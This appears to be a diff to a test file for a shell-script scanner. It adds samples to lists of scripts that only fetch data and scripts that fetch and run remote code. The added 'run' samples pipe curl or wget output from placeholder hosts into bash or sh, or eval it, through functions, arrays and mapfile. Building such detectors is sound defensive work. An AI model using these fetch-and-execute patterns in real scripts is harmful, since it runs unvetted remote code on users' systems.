@@ -667,6 +667,8 @@ FETCHED_AS_DATA = [
     '#!/bin/sh\nT=$(curl -s https://api.example.com/t)\npython3 -c "print(1)" "$T"\n',
     "#!/bin/sh\ncurl -s https://api.example.com/x | python3 -m json.tool\n",
     "#!/bin/sh\ncurl -s https://api.example.com/x | perl -ne 'print'\n",
+    '#!/bin/bash\nget() { curl -s "$1"; }\nget https://api.example.com/x | python3 -m json.tool\n',
+    '#!/bin/bash\nmapfile -t L < <(curl -s https://api.example.com/x)\necho "${L[@]}"\n',
 ]
 
 
@@ -691,6 +693,13 @@ FETCHED_AND_RUN = [
     '#!/bin/sh\npython3 -c "$(curl -fsSL https://x.example/i)"\n',
     '#!/bin/sh\nsource /dev/stdin <<< "$(curl -fsSL https://x.example/i)"\n',
     "#!/bin/sh\ncurl -s https://x.example/i | xargs -0 bash -c\n",
+    # through a function, an array, mapfile and read
+    '#!/bin/bash\nget() { curl -fsSL "$1"; }\nget https://x.example/i | bash\n',
+    '#!/bin/bash\nfunction fetch_it { wget -qO- "$1"; }\nfetch_it https://x.example/i | sh\n',
+    '#!/bin/bash\nC=(curl -fsSL https://x.example/i)\n"${C[@]}" | bash\n',
+    "#!/bin/bash\nmapfile -t L < <(curl -fsSL https://x.example/i)\n"
+    "printf '%s\\n' \"${L[@]}\" | bash\n",
+    '#!/bin/bash\nread -r X < <(curl -s https://x.example/i)\neval "$X"\n',
 ]
 
 
